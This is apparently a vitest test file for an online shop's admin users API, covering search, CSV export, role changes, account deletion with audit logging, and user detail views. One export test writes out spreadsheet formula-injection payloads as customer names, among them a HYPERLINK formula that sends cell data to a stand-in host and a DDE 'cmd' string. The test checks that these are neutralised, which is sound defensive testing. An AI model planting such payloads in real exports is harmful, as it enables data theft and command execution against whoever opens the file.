import crypto from 'node:crypto'
import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import type {
  AdminUserDetail,
  AdminUserListResponse,
  AdminUserOrderList,
  AdminUserTicketList,
  AdminUserDesignList,
} from '@rdo/contracts'
import { session, user } from '../../db/schema/auth.ts'
import { communityDesigns, designVotes } from '../../db/schema/community.ts'
import { orders } from '../../db/schema/orders.ts'
import { profiles } from '../../db/schema/profiles.ts'
import { wishlists } from '../../db/schema/reviews.ts'
import { supportTickets } from '../../db/schema/support.ts'
import {
  admin,
  auditFor,
  call,
  customer,
  insertOrder,
  json,
  sessionOf,
  t,
  tag,
  useUsersAdminWorld,
} from '../../../test/worlds/users-admin.ts'
import { createProduct } from '../../../test/products.ts'

useUsersAdminWorld()

describe('user list', () => {
  it('searches email and name, filters by role, sorts and pages on the server', async () => {
    const k = tag()
    const made = [
      await t.createUser({ email: `b-${k}@example.com`, name: 'Bea Alpha', signIn: false }),
      await t.createUser({ email: `a-${k}@example.com`, name: 'Cal Beta', signIn: false }),
      await t.createUser({ email: `c-${k}@example.com`, name: 'Abe Gamma', role: 'admin', signIn: false }),
    ]
    await t.db
      .update(profiles)
      .set({ username: `abe_${k}` })
      .where(eq(profiles.id, made[2]!.id))

    const all = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&sort=email&dir=asc`)
    expect(all.status).toBe(200)
    expect(all.body.total).toBe(3)
    expect(all.body.items.map((u) => u.email)).toEqual([
      `a-${k}@example.com`,
      `b-${k}@example.com`,
      `c-${k}@example.com`,
    ])
    expect(all.body.items[2]).toMatchObject({
      id: made[2]!.id,
      full_name: 'Abe Gamma',
      username: `abe_${k}`,
      role: 'admin',
      avatar_url: null,
    })
    expect(Date.parse(all.body.items[0]!.created_at)).toBeGreaterThan(0)

    const byName = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&sort=name&dir=desc`)
    expect(byName.body.items.map((u) => u.full_name)).toEqual(['Cal Beta', 'Bea Alpha', 'Abe Gamma'])

    // Search reaches names too, case-insensitively; the role filter applies with it.
    const name = await json<AdminUserListResponse>(
      'GET',
      `/api/admin/users?q=${encodeURIComponent('BEA ALPHA')}`,
    )
    expect(name.body.items.map((u) => u.id)).toContain(made[0]!.id)
    const admins = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&role=admin`)
    expect(admins.body.items.map((u) => u.id)).toEqual([made[2]!.id])
    const users = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&role=user`)
    expect(users.body.total).toBe(2)

    // Newest first by default; pages of two with the total of every match.
    const page1 = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&per_page=2`)
    const page2 = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&per_page=2&page=2`)
    expect(page1.body).toMatchObject({ total: 3, page: 1, per_page: 2 })
    expect(page1.body.items.map((u) => u.id)).toEqual([made[2]!.id, made[1]!.id])
    expect(page2.body.items.map((u) => u.id)).toEqual([made[0]!.id])

    // A wildcard in the search is a literal character, not "anything".
    expect((await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}%25zz`)).body.total).toBe(0)
  })

  it('totals without a search stay exact through sign-ups, role changes and deletions', async () => {
    const totals = async () => {
      const [all, admins, users] = await Promise.all(
        ['', '?role=admin', '?role=user'].map((q) =>
          json<AdminUserListResponse>('GET', `/api/admin/users${q}`),
        ),
      )
      const { rows } = await t.ctx.pool.query<{ role: string; n: string }>(
        'select role, count(*) as n from "user" group by role',
      )
      const counted = Object.fromEntries(rows.map((r) => [r.role, Number(r.n)]))
      expect(admins!.body.total).toBe(counted.admin ?? 0)
      expect(users!.body.total).toBe(counted.user ?? 0)
      expect(all!.body.total).toBe((counted.admin ?? 0) + (counted.user ?? 0))
      return { admins: admins!.body.total, users: users!.body.total }
    }
    const before = await totals()
    const u = await t.createUser({ signIn: false })
    expect(await totals()).toEqual({ admins: before.admins, users: before.users + 1 })
    expect(
      (await call('PATCH', `/api/admin/users/${u.id}/role`, admin.cookie, { role: 'admin' })).statusCode,
    ).toBe(200)
    expect(await totals()).toEqual({ admins: before.admins + 1, users: before.users })
    expect((await call('DELETE', `/api/admin/users/${u.id}`)).statusCode).toBeLessThan(300)
    expect(await totals()).toEqual(before)
  })

  it('counts a broad search only up to 1,000 and says so; a narrower one exactly', async () => {
    const k = tag()
    await t.ctx.pool.query(
      `insert into "user" (name, email, email_verified) select 'Broad ' || g, 'broad' || g || '-' || $1 || '@example.com', true
       from generate_series(1, 1005) g`,
      [k],
    )
    const broad = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&per_page=100&page=3`)
    expect(broad.body).toMatchObject({ total: 1000, total_capped: true, page: 3 })
    expect(broad.body.items).toHaveLength(100)
    const narrow = await json<AdminUserListResponse>('GET', `/api/admin/users?q=broad1000-${k}`)
    expect(narrow.body.total).toBe(1)
    expect(narrow.body.total_capped).toBeUndefined()
  })

  it('refuses unknown sorts and roles, visitors and customers', async () => {
    expect((await call('GET', '/api/admin/users?sort=password')).statusCode).toBe(400)
    expect((await call('GET', '/api/admin/users?role=owner')).statusCode).toBe(400)
    expect((await call('GET', '/api/admin/users', '')).statusCode).toBe(401)
    expect((await call('GET', '/api/admin/users', customer.cookie)).statusCode).toBe(403)
  })

  it('exports every matching user as a CSV file named with the date', async () => {
    const k = tag()
    const a = await t.createUser({ email: `csv-a-${k}@example.com`, name: 'Csv, "Quoted"', signIn: false })
    await t.createUser({ email: `csv-b-${k}@example.com`, role: 'admin', signIn: false })
    const res = await call('GET', `/api/admin/users/export.csv?q=${k}&role=user`)
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="users-${new Date().toISOString().slice(0, 10)}.csv"`,
    )
    const lines = res.body.trim().split('\n')
    expect(lines[0]).toBe('id,email,name,username,role,created_at')
    expect(lines).toHaveLength(2)
    expect(lines[1]).toMatch(new RegExp(`^${a.id},csv-a-${k}@example.com,"Csv, ""Quoted""",,user,\\d{4}-`))

    const everyone = await call('GET', '/api/admin/users/export.csv')
    const [{ n }] = (await t.ctx.pool.query<{ n: string }>('select count(*) as n from "user"')).rows as [
      { n: string },
    ]
    expect(everyone.body.trim().split('\n')).toHaveLength(Number(n) + 1)
    expect((await call('GET', '/api/admin/users/export.csv', customer.cookie)).statusCode).toBe(403)
  })

  it('writes a customer-chosen text that a spreadsheet would run as a formula as plain text', async () => {
    const k = tag()
    const names = [
      '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ]
    const made = []
    for (const [i, name] of names.entries()) {
      made.push(await t.createUser({ email: `formula-${i}-${k}@example.com`, name, signIn: false }))
    }
    const res = await call('GET', `/api/admin/users/export.csv?q=formula&role=user`)
    expect(res.statusCode).toBe(200)
    // Each name comes back whole behind a single quote (quoted and escaped as CSV wants).
    const { stringify } = await import('csv-stringify/sync')
    for (const [i, u] of made.entries()) {
      const cell = stringify([[`'${names[i]}`]]).replace(/\n$/, '')
      expect(res.body, names[i]).toContain(`${u.id},${u.email},${cell},,user,`)
    }
  })
})

describe('role change', () => {
  it('changes the role with one audit entry; the new role applies at once', async () => {
    const u = await t.createUser()
    const res = await json<{ role: string; id: string }>(
      'PATCH',
      `/api/admin/users/${u.id}/role`,
      admin.cookie,
      {
        role: 'admin',
      },
    )
    expect(res).toMatchObject({ status: 200, body: { id: u.id, role: 'admin' } })
    expect((await call('GET', '/api/admin/summary', u.cookie)).statusCode).toBe(200)
    const audit = await auditFor(u.id)
    expect(audit.total).toBe(1)
    expect(audit.items[0]).toMatchObject({
      action: 'user.role_change',
      entity: 'user',
      actor: { id: admin.id },
      before: { role: 'user' },
      after: { role: 'admin' },
    })
    expect(audit.items[0]!.ip).toBeTruthy()

    // Setting the same role again changes nothing and records nothing.
    expect(
      (await call('PATCH', `/api/admin/users/${u.id}/role`, admin.cookie, { role: 'admin' })).statusCode,
    ).toBe(200)
    expect((await auditFor(u.id)).total).toBe(1)

    await call('PATCH', `/api/admin/users/${u.id}/role`, admin.cookie, { role: 'user' })
    expect((await call('GET', '/api/admin/summary', u.cookie)).statusCode).toBe(403)
    expect((await auditFor(u.id)).total).toBe(2)
  })

  it('refuses demoting oneself, a missing user and a bad role, writing nothing', async () => {
    const self = await call('PATCH', `/api/admin/users/${admin.id}/role`, admin.cookie, { role: 'user' })
    expect(self.statusCode).toBe(403)
    expect(self.json().error.message).toBe('You cannot remove your own admin role')
    const [row] = await t.db.select({ role: user.role }).from(user).where(eq(user.id, admin.id))
    expect(row!.role).toBe('admin')
    expect((await auditFor(admin.id, 'user.role_change')).total).toBe(0)

    const missing = await call('PATCH', `/api/admin/users/${crypto.randomUUID()}/role`, admin.cookie, {
      role: 'admin',
    })
    expect(missing.statusCode).toBe(404)
    expect(missing.json().error.message).toBe('User not found')
    expect(
      (await call('PATCH', '/api/admin/users/not-an-id/role', admin.cookie, { role: 'user' })).statusCode,
    ).toBe(404)
    expect(
      (await call('PATCH', `/api/admin/users/${customer.id}/role`, admin.cookie, { role: 'owner' }))
        .statusCode,
    ).toBe(400)
    expect(
      (await call('PATCH', `/api/admin/users/${customer.id}/role`, customer.cookie, { role: 'admin' }))
        .statusCode,
    ).toBe(403)
  })
})

describe('delete user', () => {
  it('removes the person and their sessions, keeps their orders and tickets, records the before state', async () => {
    const u = await t.createUser({ name: 'Leaving Soon' })
    const { product } = await createProduct(t.db)
    const order = await insertOrder(u.id, { status: 'delivered', paid: true, total: 4200 })
    const [ticket] = await t.db
      .insert(supportTickets)
      .values({ userId: u.id, subject: 'Bye', message: 'Closing my account' })
      .returning()
    await t.db.insert(wishlists).values({ userId: u.id, productId: product.id })
    expect((await sessionOf(u.cookie)).user?.id).toBe(u.id)

    const res = await call('DELETE', `/api/admin/users/${u.id}`)
    expect(res.statusCode).toBe(200)
    expect(res.json()).toEqual({ ok: true, id: u.id })

    expect(await t.db.select().from(user).where(eq(user.id, u.id))).toHaveLength(0)
    expect(await t.db.select().from(profiles).where(eq(profiles.id, u.id))).toHaveLength(0)
    expect(await t.db.select().from(session).where(eq(session.userId, u.id))).toHaveLength(0)
    expect(await t.db.select().from(wishlists).where(eq(wishlists.userId, u.id))).toHaveLength(0)
    const [kept] = await t.db.select().from(orders).where(eq(orders.id, order.id))
    expect(kept).toMatchObject({ userId: null, totalCents: 4200, status: 'delivered' })
    const [keptTicket] = await t.db.select().from(supportTickets).where(eq(supportTickets.id, ticket!.id))
    expect(keptTicket!.userId).toBeNull()

    // Their cookie no longer works anywhere.
    expect((await sessionOf(u.cookie)).user).toBeNull()
    expect((await call('GET', '/api/profile', u.cookie)).statusCode).toBe(401)
    expect((await call('GET', '/api/orders', u.cookie)).statusCode).toBe(401)

    const audit = await auditFor(u.id)
    expect(audit.total).toBe(1)
    expect(audit.items[0]).toMatchObject({
      action: 'user.delete',
      entity: 'user',
      actor: { id: admin.id },
      before: { email: u.email, role: 'user', full_name: 'Leaving Soon', orders_kept: 1 },
      after: null,
    })

    const again = await call('DELETE', `/api/admin/users/${u.id}`)
    expect(again.statusCode).toBe(404)
    expect(again.json().error.message).toBe('User not found')
  })

  it('refuses deleting oneself and leaves everything as it was', async () => {
    const res = await call('DELETE', `/api/admin/users/${admin.id}`)
    expect(res.statusCode).toBe(403)
    expect(res.json().error.message).toBe('You cannot delete your own account')
    expect((await sessionOf(admin.cookie)).user?.id).toBe(admin.id)
    expect((await auditFor(admin.id, 'user.delete')).total).toBe(0)
    expect((await call('DELETE', `/api/admin/users/${admin.id}`, customer.cookie)).statusCode).toBe(403)
  })
})

describe('user detail', () => {
  it('adds up orders, tickets, designs and votes, previews the wishlist and the latest of each', async () => {
    const u = await t.createUser({ name: 'Detail Person' })
    const other = await t.createUser({ signIn: false })
    await t.db
      .update(profiles)
      .set({ username: `detail_${tag()}`, phoneNumber: '+1 555 0100', walletAddress: 'So1anaWa11et' })
      .where(eq(profiles.id, u.id))
    await insertOrder(u.id, { status: 'delivered', paid: true, total: 5000 })
    await insertOrder(u.id, { status: 'pending_payment', total: 1000 })
    await insertOrder(u.id, { status: 'cancelled', total: 700 })
    await insertOrder(u.id, { status: 'shipped', paid: true, total: 2500 })
    const newest = await insertOrder(u.id, { status: 'processing', paid: true, total: 1200 })
    for (const [subject, status] of [
      ['First', 'resolved'],
      ['Second', 'open'],
      ['Third', 'in_progress'],
    ] as const) {
      await t.db.insert(supportTickets).values({ userId: u.id, subject, message: 'm', status })
    }
    const designs = await t.db
      .insert(communityDesigns)
      .values([
        { createdBy: u.id, imageUrl: '/files/a.webp', description: 'Moon hoodie', votes: 10 },
        { createdBy: u.id, imageUrl: '/files/b.webp', description: 'Sun tee', votes: 5, status: 'approved' },
      ])
      .returning()
    const [theirs] = await t.db
      .insert(communityDesigns)
      .values({ createdBy: other.id, imageUrl: '/files/c.webp', description: 'Other design' })
      .returning()
    await t.db.insert(designVotes).values({ designId: theirs!.id, userId: u.id })
    const wished = []
    for (let i = 0; i < 6; i++) {
      const { product } = await createProduct(t.db, { name: `Wish ${i} ${tag()}` })
      await t.db
        .insert(wishlists)
        .values({ userId: u.id, productId: product.id, createdAt: new Date(Date.now() + i) })
      wished.push(product)
    }

    const { status, body } = await json<AdminUserDetail>('GET', `/api/admin/users/${u.id}`)
    expect(status).toBe(200)
    expect(body.profile).toMatchObject({
      id: u.id,
      email: u.email,
      full_name: 'Detail Person',
      role: 'user',
      phone_number: '+1 555 0100',
      wallet_address: 'So1anaWa11et',
      avatar_url: null,
      notification_preferences: { order_updates: true, marketing: false },
      marketing_preferences: expect.objectContaining({ email_newsletter: expect.any(Boolean) }),
    })
    expect(body.orders).toEqual({ total_orders: 3, total_spent_cents: 8700 })
    expect(body.support).toEqual({ total_tickets: 3, open_tickets: 2 })
    expect(body.designs).toEqual({ total_designs: 2, total_votes: 15 })
    expect(body.wishlist.count).toBe(6)
    expect(body.wishlist.items.map((w) => w.product_id)).toEqual(
      wished
        .slice(1)
        .reverse()
        .map((p) => p.id),
    )
    expect(body.wishlist.items[0]).toMatchObject({ name: wished[5]!.name, slug: wished[5]!.slug })
    expect(body.recent.orders).toHaveLength(3)
    expect(body.recent.orders[0]).toMatchObject({ id: newest.id, total_cents: 1200, status: 'processing' })
    expect(body.recent.tickets.map((x) => x.subject)).toEqual(['Third', 'Second', 'First'])
    expect(body.recent.designs.map((d) => d.id).sort()).toEqual(designs.map((d) => d.id).sort())
    expect(body.recent.votes).toEqual([
      expect.objectContaining({ design_id: theirs!.id, design_description: 'Other design' }),
    ])

    // The tabs: every order, ticket and design, paged by the server.
    const ordersPage = await json<AdminUserOrderList>(
      'GET',
      `/api/admin/users/${u.id}/orders?per_page=2&page=3`,
    )
    expect(ordersPage.body).toMatchObject({ total: 5, page: 3, per_page: 2 })
    expect(ordersPage.body.items).toHaveLength(1)
    const tickets = await json<AdminUserTicketList>('GET', `/api/admin/users/${u.id}/tickets?dir=asc`)
    expect(tickets.body.items.map((x) => x.subject)).toEqual(['First', 'Second', 'Third'])
    const designList = await json<AdminUserDesignList>('GET', `/api/admin/users/${u.id}/designs`)
    expect(designList.body.total).toBe(2)
  })

  it('shows an empty account as zeros and answers a missing one with User Not Found', async () => {
    const u = await t.createUser({ signIn: false })
    const { body } = await json<AdminUserDetail>('GET', `/api/admin/users/${u.id}`)
    expect(body.orders).toEqual({ total_orders: 0, total_spent_cents: 0 })
    expect(body.designs).toEqual({ total_designs: 0, total_votes: 0 })
    expect(body.wishlist).toEqual({ count: 0, items: [] })
    expect(body.recent).toEqual({ orders: [], tickets: [], designs: [], votes: [] })

    for (const id of [crypto.randomUUID(), 'garbage']) {
      const res = await call('GET', `/api/admin/users/${id}`)
      expect(res.statusCode).toBe(404)
      expect(res.json().error.message).toBe('User Not Found')
    }
    for (const tab of ['orders', 'tickets', 'designs']) {
      expect((await call('GET', `/api/admin/users/${crypto.randomUUID()}/${tab}`)).statusCode).toBe(404)
    }
  })
})
